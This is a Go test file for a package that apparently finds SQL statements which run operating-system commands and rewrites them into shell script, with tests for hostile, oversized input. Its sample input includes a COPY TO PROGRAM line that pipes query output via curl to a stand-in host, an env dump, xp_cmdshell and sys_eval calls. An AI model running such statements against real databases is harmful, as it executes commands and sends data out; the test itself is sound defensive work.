package sqlprog

import (
	"strings"
	"testing"
)

func TestScriptLines(t *testing.T) {
	src := "BEGIN;\nCOPY t FROM PROGRAM 'env';\n\nCOPY (SELECT 1) TO PROGRAM 'curl -d @- https://x.example';\nEXEC xp_cmdshell 'echo a # note';\nSELECT sys_eval('id');\n"
	s, n := Script(src)
	if n != 4 {
		t.Fatalf("n = %d, want 4:\n%s", n, s)
	}
	lines := strings.Split(s, "\n")
	for i, want := range map[int]string{1: "__sql_in=\"$__sql_in$(env;)\"", 3: "printf '%s' \"$__sql_in\" | { curl -d @- https://x.example; }", 4: "{ echo a # note", 6: "{ id; }"} {
		if i >= len(lines) || lines[i] != want {
			t.Errorf("line %d: got %q, want %q\n%s", i+1, lines[min(i, len(lines)-1)], want, s)
		}
	}
	if s, n := Script("COPY t FROM PROGRAM 'it''s';\nINSERT INTO x VALUES ('sp_configure ''xp_cmdshell''');"); n != 1 || !strings.Contains(s, "it's") {
		t.Errorf("quotes: %d %q", n, s)
	}
}

// TestScriptBounded counts the commands rewritten from a hostile file:
// many commands, and a quote that never closes on a 1 MiB line.
func TestScriptBounded(t *testing.T) {
	if _, n := Script(strings.Repeat("COPY t FROM PROGRAM 'x';\n", 4*MaxCommands)); n != MaxCommands {
		t.Errorf("n = %d, want %d", n, MaxCommands)
	}
	src := "COPY t TO PROGRAM '" + strings.Repeat("from program x ", 1<<16)
	if _, n := Script(src); n != 0 {
		t.Errorf("unclosed: n = %d", n)
	}
}
